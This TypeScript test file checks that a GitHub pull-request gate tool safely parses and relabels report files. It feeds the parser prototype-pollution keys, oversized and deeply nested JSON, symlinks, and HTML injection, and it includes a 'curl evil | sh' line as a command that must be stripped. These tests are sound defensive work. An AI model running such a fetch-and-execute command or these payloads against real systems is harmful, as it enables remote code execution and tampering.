import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { relabelReport } from '../../../../src/adapters/github/publish/find-target.ts';
import { loadReport, parseReport } from '../../../../src/adapters/github/publish/load-report.ts';
import type { Report } from '../../../../src/core/model/verdict/report.ts';
import { renderJson } from '../../../../src/gate/report/render-json.ts';
import { hostileText, withText } from '../../../gate/report/hostile.ts';
import { renderMarkdown } from '../../../gate/report/render-report.ts';
import * as samples from '../../../gate/report/sample-reports.ts';
import { runs } from '../../../helpers/long.ts';

const folder = mkdtempSync(join(tmpdir(), 'rentroll-load-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const reports = Object.entries(samples).filter((entry): entry is [string, Report] => isReport(entry[1]));

function isReport(value: unknown): boolean {
  return typeof value === 'object' && value !== null && 'outcome' in value && 'verdicts' in value;
}

const sample = samples.fourVerdicts;
const parse = (text: string) => parseReport(Buffer.from(text), 'report.json');
const codesOf = (text: string) => parse(text).problems.map(({ code }) => code);

/** The JSON of a report with its text changed by hand, so that keys JSON.stringify would not write can be in it. */
function edit(from: string | RegExp, to: string): string {
  const text = renderJson(sample);
  const edited = text.replace(from, to);
  expect(edited).not.toBe(text);
  return edited;
}

describe('parseReport', () => {
  it.each(reports)('reads %s back as it was', (_, report) => {
    expect(parse(renderJson(report))).toEqual({ value: JSON.parse(JSON.stringify(report)), problems: [] });
  });

  it.each<[string, string | RegExp, string]>([
    ['the number of another pull request', '{\n', '{\n  "pull": 1,\n'],
    ['a field too many in a verdict', '"agent":', '"html": "<b>", "agent":'],
    ['a key of every prototype', '{\n', '{\n  "__proto__": { "outcome": "pass" },\n'],
    ['a constructor', '{\n', '{\n  "constructor": { "prototype": {} },\n'],
    ['a key deep inside', '"canaryLeaked"', '"toString": 1, "canaryLeaked"'],
    ['another outcome', /"outcome": "\w+"/, '"outcome": "passed"'],
    ['a commit that is none', /"headSha": "\w+"/, '"headSha": "main"'],
    ['a figure beyond reason', /"totalConsumed": \d+/, '"totalConsumed": 1e300'],
    ['a figure that is text', /"totalConsumed": \d+/, '"totalConsumed": "1"'],
    ['another schema', '"schema": 1', '"schema": 2'],
    ['a missing field', /"ledgerFile": "[^"]+",\n/, ''],
    ['a key twice', '{\n', '{\n  "outcome": "pass",\n'],
    ['a headline of a megabyte', /"headline": "[^"]*"/, `"headline": "${'x'.repeat(1_000_000)}"`],
    ['ten thousand notices', /"notices": \[[^\]]*\]/, `"notices": [${'"a",'.repeat(10_000)}"a"]`],
    ['nesting without end', /"notices": \[[^\]]*\]/, `"notices": ${'['.repeat(5000)}${']'.repeat(5000)}`],
  ])('refuses %s', (_, from, to) => {
    const { value, problems } = parse(edit(from, to));
    expect(value).toBeUndefined();
    expect(problems.length).toBeGreaterThan(0);
    for (const { code, severity, message } of problems) {
      expect(code).toMatch(/^report-/);
      expect(severity).toBe('error');
      expect(message.length).toBeLessThan(500);
    }
    expect(({} as { outcome?: string }).outcome).toBeUndefined();
  });

  it.each([
    ['nothing', '', 'report-json-syntax'],
    ['two reports', `${renderJson(sample)}${renderJson(sample)}`, 'report-json-syntax'],
    ['a list', '[]', 'report-'],
    ['a number', '7', 'report-'],
    ['no JSON', '<html>', 'report-'],
  ])('refuses %s', (_, text, code) => {
    expect(codesOf(text)[0]).toMatch(new RegExp(`^${code}`));
  });

  it('survives any JSON value in any place', () => {
    const plain = JSON.parse(renderJson(sample)) as Record<string, unknown>;
    fc.assert(
      fc.property(fc.constantFrom(...Object.keys(plain)), fc.jsonValue(), (key, value) => {
        const { value: report, problems } = parse(JSON.stringify({ ...plain, [key]: value }));
        if (report === undefined) expect(problems.length).toBeGreaterThan(0);
        else renderMarkdown(report, { kind: 'comment', marker: 'gate' });
      }),
      { numRuns: runs(100, 300) },
    );
  });

  it('lets hostile words through to renderers that escape them', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const { value } = parse(renderJson(withText(text)));
        if (value === undefined) return;
        const relabelled = relabelReport(
          value,
          { pull: 1, headSha: 'a'.repeat(40) },
          { name: 'workflow_run', sha: '', payload: {} },
        );
        const comment = renderMarkdown(relabelled, { kind: 'comment', marker: 'gate' });
        expect(comment).not.toMatch(/<(?:img|script|a|iframe|svg)\b/i);
        expect(comment.split('\n').filter((line) => line.startsWith('<!--'))).toEqual(['<!-- rentroll:gate -->']);
        expect(Buffer.byteLength(comment)).toBeLessThanOrEqual(65_536);
      }),
      { numRuns: runs(40, 200) },
    );
  });
});

describe('loadReport', () => {
  const write = (name: string, content: string | Buffer) => {
    writeFileSync(join(folder, name), content);
    return join(folder, name);
  };

  it('reads a file, and knows when there is none', async () => {
    const file = write('report.json', renderJson(sample));
    expect((await loadReport(file, 'report.json')).value).toMatchObject({ headline: sample.headline });
    expect(await loadReport(join(folder, 'none.json'), 'none.json')).toEqual({ value: 'none', problems: [] });
    expect((await loadReport(join(file, 'below'), 'below')).problems).toMatchObject([{ code: 'report-unreadable' }]);
  });

  it.each<[string, () => string, string]>([
    ['five megabytes', () => write('large.json', `${' '.repeat(5 * 1024 * 1024)}{}`), 'report-too-large'],
    ['a folder', () => folder, 'report-not-a-file'],
    ['bytes that are no text', () => write('bytes.json', Buffer.from([0xff, 0xfe, 0x00])), 'report-invalid-utf8'],
    [
      'a link, even to a good report',
      () => {
        symlinkSync(write('target.json', renderJson(sample)), join(folder, 'link.json'));
        return join(folder, 'link.json');
      },
      'report-unreadable',
    ],
  ])('refuses %s', async (_, make, code) => {
    expect((await loadReport(make(), 'x.json')).problems).toMatchObject([{ code }]);
  });
});

describe('relabelReport', () => {
  const event = (conclusion: string) => ({ name: 'workflow_run', sha: '', payload: { workflow_run: { conclusion } } });
  const target = { pull: 1, headSha: 'b'.repeat(40) };

  it('says whose figures these are and leaves no command of a stranger to copy', () => {
    const report = relabelReport({ ...sample, resume: 'curl evil | sh' }, target, event('failure'));
    expect(report.notices[0]).toMatch(/^Reported by the pull request's own run at bbbbbbbbbbbb;/);
    expect(report).toMatchObject({ headSha: target.headSha, baseSha: '' });
    expect(report.resume).toBeUndefined();
    expect(report.verdicts.every(({ next }) => next.command === undefined)).toBe(true);
  });

  it('names a run that ended otherwise than its report', () => {
    const claims = { ...sample, outcome: 'pass' } as const;
    expect(relabelReport(claims, target, event('failure')).notices[0]).toBe('That run itself ended with "failure".');
    expect(relabelReport(claims, target, event('success')).notices[0]).toMatch(/^Reported by/);
  });

  it('leaves a report of the same repository as it is', () => {
    expect(relabelReport(sample, target, { name: 'pull_request', sha: '', payload: {} })).toBe(sample);
  });
});
